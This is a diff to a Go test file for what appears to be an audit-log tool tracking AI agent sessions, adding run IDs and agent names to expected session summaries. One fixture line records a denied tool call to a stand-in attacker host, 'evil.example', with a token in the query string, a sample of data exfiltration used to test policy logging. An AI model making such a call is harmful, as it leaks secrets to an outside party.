@@ -50,7 +50,7 @@ func reviewLog(t *testing.T) string {
 				Arguments: map[string]any{"url": "https://evil.example/x?token=abcdef123456"}, Error: "denied by policy deny-network"}}},
 	}
 	all := append(append(append([]Event{}, evs[:3]...), other...), evs[3:]...)
-	writeLog(t, path, Options{Now: fixedClock(1500 * time.Millisecond)}, all)
+	writeLog(t, path, Options{Now: fixedClock(1500 * time.Millisecond), RunID: "20261121T200000Z-00000001"}, all)
 	return path
 }
 
@@ -100,8 +100,8 @@ func TestSessions(t *testing.T) {
 	start := time.Date(2026, 11, 21, 20, 0, 0, 0, time.UTC)
 	at := func(n int) time.Time { return start.Add(time.Duration(n) * 1500 * time.Millisecond) }
 	want := []SessionSummary{
-		{ID: "sess-1", Start: at(2), End: at(9), Events: 6, Prompts: 1, ToolCalls: 2, Denials: 1, Approvals: 1},
-		{ID: "sess-2", Start: at(4), End: at(5), Events: 2, Prompts: 1, ToolCalls: 1, Denials: 1},
+		{ID: "sess-1", Run: "20261121T200000Z-00000001", Agent: "agent:claude-code", Start: at(2), End: at(9), Events: 6, Prompts: 1, ToolCalls: 2, Denials: 1, Approvals: 1},
+		{ID: "sess-2", Run: "20261121T200000Z-00000001", Agent: "agent:claude-code", Start: at(4), End: at(5), Events: 2, Prompts: 1, ToolCalls: 1, Denials: 1},
 	}
 	if diff := cmp.Diff(want, got); diff != "" {
 		t.Errorf("Sessions (-want +got):\n%s", diff)
